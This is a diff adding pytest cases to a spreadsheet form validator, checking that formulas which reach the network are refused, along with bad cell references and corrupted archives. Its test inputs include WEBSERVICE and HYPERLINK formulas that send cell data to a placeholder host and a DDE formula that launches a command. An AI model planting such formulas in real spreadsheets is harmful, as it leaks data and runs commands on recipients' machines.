@@ -149,6 +149,27 @@ def test_what_would_be_lost_or_do_harm_is_refused_by_name(part, word):
     assert word in mistake[1]
 
 
+@pytest.mark.parametrize(
+    "formula", ['=WEBSERVICE("http://x/"&A1)', "=cmd|'/c calc'!A1", '=1+hyperlink ("http://x/"&A1)']
+)
+def test_a_formula_that_would_send_figures_elsewhere_is_refused(formula):
+    assert "访问网络" in mistakes(form_with({"单位": "$A$1"}, B2=formula))["表1!B2"]
+    assert not mistakes(form_with({"单位": "$A$1"}, B2='=IF(A1="a|b",1,SUM(C1:C2))', XFD1048576="=1"))
+
+
+@pytest.mark.parametrize("cell", ["$A$0", "$A$1048577", "$XFE$1", "$A$99999999999", "$A$٣"])
+def test_a_cell_that_no_sheet_has_is_a_mistake_and_not_a_crash(cell):
+    assert "一个单元格" in mistakes(form_with({"单位": cell}))["单位"]
+
+
+@pytest.mark.parametrize("place", [8, 10])
+def test_an_archive_that_cannot_be_unpacked_is_refused(place):
+    content = bytearray(example_form())
+    content[content.rindex(b"[Content_Types].xml") - 46 + place] ^= 99
+    with pytest.raises(DomainError, match="已损坏"):
+        check_form(bytes(content))
+
+
 def test_a_workbook_that_says_it_has_macros_is_refused():
     content = example_form()
     file = io.BytesIO()
@@ -213,6 +234,13 @@ def test_a_name_that_looks_like_a_formula_is_text():
     sheet = load_workbook(fill_form(content, places, {"unit_name": "=1+1", "year_number": 2026}))["表1"]
     assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
     assert (sheet["A2"].value, sheet["A2"].number_format) == (2026, "General")
+    fill_form(content, places, {"unit_name": "县\x01", "year_number": 2026}).close()
+
+
+def test_a_table_that_begins_in_the_last_row_has_room_for_one():
+    content = bytes_of(form_with({"下级_单位": "$A$1048576"}))
+    with pytest.raises(DomainError, match="只留了1行"):
+        fill_form(content, check_form(content).places, {"below_unit": ["甲村", "乙村"]})
 
 
 def test_a_table_without_room_for_all_units_says_how_much_is_missing(secretary, town):
